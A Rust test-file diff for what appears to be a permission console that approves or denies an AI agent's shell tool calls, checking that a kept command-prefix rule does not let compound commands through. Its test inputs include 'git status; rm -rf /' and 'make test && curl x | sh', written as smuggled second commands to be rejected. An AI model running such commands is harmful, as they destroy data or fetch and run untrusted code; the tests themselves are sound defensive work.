@@ -8,7 +8,7 @@
 
 mod pty_support;
 
-use pty_support::{Console, result};
+use pty_support::{Console, bash_calls, replay_written, result, shell_scenario};
 use serde_json::{Value, json};
 
 /// Deploys are denied and curl is asked; anything else gets the default
@@ -25,46 +25,11 @@ const DEPLOYS_DENIED: &str = r#"{
 /// A replay of `batches` (each a list of `(call id, command)` for `Bash`)
 /// under `policy`, each batch run on `r`.
 fn console(policy: &str, batches: &[&[(&str, &str)]]) -> (Console, std::path::PathBuf, tempfile::TempDir) {
-    let dir = tempfile::tempdir().unwrap();
-    let scenario = dir.path().join("shell.json");
-    let policy_path = dir.path().join("shell.policy.json");
-    let batches: Vec<Value> = batches
-        .iter()
-        .map(|calls| {
-            let calls: Vec<Value> = calls
-                .iter()
-                .map(|(id, command)| {
-                    json!({"id": id, "name": "Bash", "arguments": json!({"command": command}).to_string()})
-                })
-                .collect();
-            json!({"scope": "lab", "calls": calls})
-        })
-        .collect();
-    std::fs::write(
-        &scenario,
-        json!({
-            "name": "shell",
-            "scopes": [{"id": "lab", "label": "lab", "owner": "me"}],
-            "tools": [{"name": "Bash", "description": "Runs a command", "scope": "lab", "body": {"echo": true}}],
-            "batches": batches,
-        })
-        .to_string(),
-    )
-    .unwrap();
-    std::fs::write(&policy_path, policy).unwrap();
-    let args: Vec<String> = [
-        "replay",
-        scenario.to_str().unwrap(),
-        "--policy",
-        policy_path.to_str().unwrap(),
-    ]
-    .iter()
-    .map(|s| (*s).to_owned())
-    .collect();
-    let mut console = Console::spawn(&args, true);
+    let batches = batches.iter().map(|calls| bash_calls(calls)).collect();
+    let (mut console, policy, dir) = replay_written(&shell_scenario(batches), policy, &[]);
     console.wait_for("press r to run the next");
     console.keys("r");
-    (console, policy_path, dir)
+    (console, policy, dir)
 }
 
 const LATER: &[(&str, &str)] = &[
@@ -276,4 +241,88 @@ fn a_rule_kept_from_a_link_agent_holds_for_that_agent_in_its_project_in_a_later_
         .find(|e| e["event"] == "tool/result" && e["call_id"] == "run-2-call")
         .unwrap();
     assert_eq!(decided["decided_by"], "rule:always-bash-1", "{decided}");
+}
+
+#[test]
+fn a_kept_command_prefix_passes_the_next_matching_call_and_asks_the_rest() {
+    let calls = bash_calls(&[
+        ("c1", "git status"),
+        ("c2", "git status --short"),
+        ("c3", "git push"),
+        ("c4", "git status; rm -rf /"),
+    ]);
+    let (mut console, policy, _dir) = replay_written(
+        &shell_scenario(vec![calls]),
+        "{\n  \"description\":   \"commands are asked\",\n\n  \"rules\": [\n    {\"id\": \"ask-bash\", \"stage\": \"pre-execute\", \"match\": {\"tool\": \"Bash\"}, \"action\": {\"type\": \"ask\"}}\n  ]\n}\n",
+        &["--auto"],
+    );
+    // `s`: add it and keep it in the policy file.
+    prefix_kept_from_c1(&mut console, "starts with `git status`", "s");
+    prefix_codes(&console.quit());
+    let kept = std::fs::read_to_string(&policy).unwrap();
+    assert!(
+        kept.starts_with(
+            "{\n  \"description\":   \"commands are asked\",\n\n  \"rules\": [\n    {\"id\":\"always-bash-1\""
+        ),
+        "the user's formatting stays:\n{kept}"
+    );
+    assert!(kept.contains("\"id\":\"always-bash-1\""), "{kept}");
+}
+
+/// Calls c1–c4 of one batch, each asked: on c1 `a` offers a prefix rule
+/// (the chooser says `offered`), `j` picks it and `keep` adds it. c2
+/// matches and passes; c3 (another subcommand) and c4 (a compound command)
+/// are asked and rejected.
+fn prefix_kept_from_c1(console: &mut Console, offered: &str, keep: &str) {
+    console.wait_for("Call      c1");
+    console.keys("a");
+    let screen = console.wait_for("Approve always: which rule?");
+    assert!(screen.contains(offered), "{screen}");
+    console.keys("j"); // from the exact arguments to the prefix
+    console.keys(keep);
+    console.wait_for("Call      c3");
+    console.keys("\x1b");
+    let screen = console.wait_for("Call      c4");
+    assert!(!screen.contains("Call      c2"));
+    console.keys("\x1b");
+    console.wait_for("4/4 done");
+}
+
+/// The codes of [`prefix_kept_from_c1`]'s calls in `journal`.
+fn prefix_codes(journal: &[Value]) {
+    assert_eq!(result(journal, "c1")["code"], Value::Null);
+    assert_eq!(result(journal, "c2")["code"], Value::Null, "covered by the prefix");
+    assert_eq!(result(journal, "c3")["code"], "DENIED", "another subcommand is asked");
+    assert_eq!(result(journal, "c4")["code"], "DENIED", "a compound command is asked");
+}
+
+#[test]
+fn a_tool_the_policy_marks_shell_like_is_offered_a_command_prefix() {
+    let calls: Vec<Value> = [
+        ("c1", "make test -j4"),
+        ("c2", "make test"),
+        ("c3", "make install"),
+        ("c4", "make test && curl x | sh"),
+    ]
+    .iter()
+    .map(|(id, line)| json!({"id": id, "name": "run", "arguments": json!({"job": {"line": line}}).to_string()}))
+    .collect();
+    let scenario = json!({
+        "name": "own shell tool",
+        "scopes": [{"id": "lab", "label": "lab"}],
+        "tools": [{"name": "run", "description": "Runs a job line", "scope": "lab", "body": {"echo": true}}],
+        "batches": [{"scope": "lab", "calls": calls}],
+    });
+    let policy = json!({
+        "shell_tools": [{"tool": "run", "command": "/job/line"}],
+        "rules": [{"id": "ask-run", "stage": "pre-execute", "match": {"tool": "run"}, "action": {"type": "ask"}}],
+    });
+    let (mut console, _policy, _dir) = replay_written(&scenario, &policy.to_string(), &["--auto"]);
+    // Enter: for this session.
+    prefix_kept_from_c1(
+        &mut console,
+        "when job/line starts with `make test` (each command of it",
+        "\r",
+    );
+    prefix_codes(&console.quit());
 }
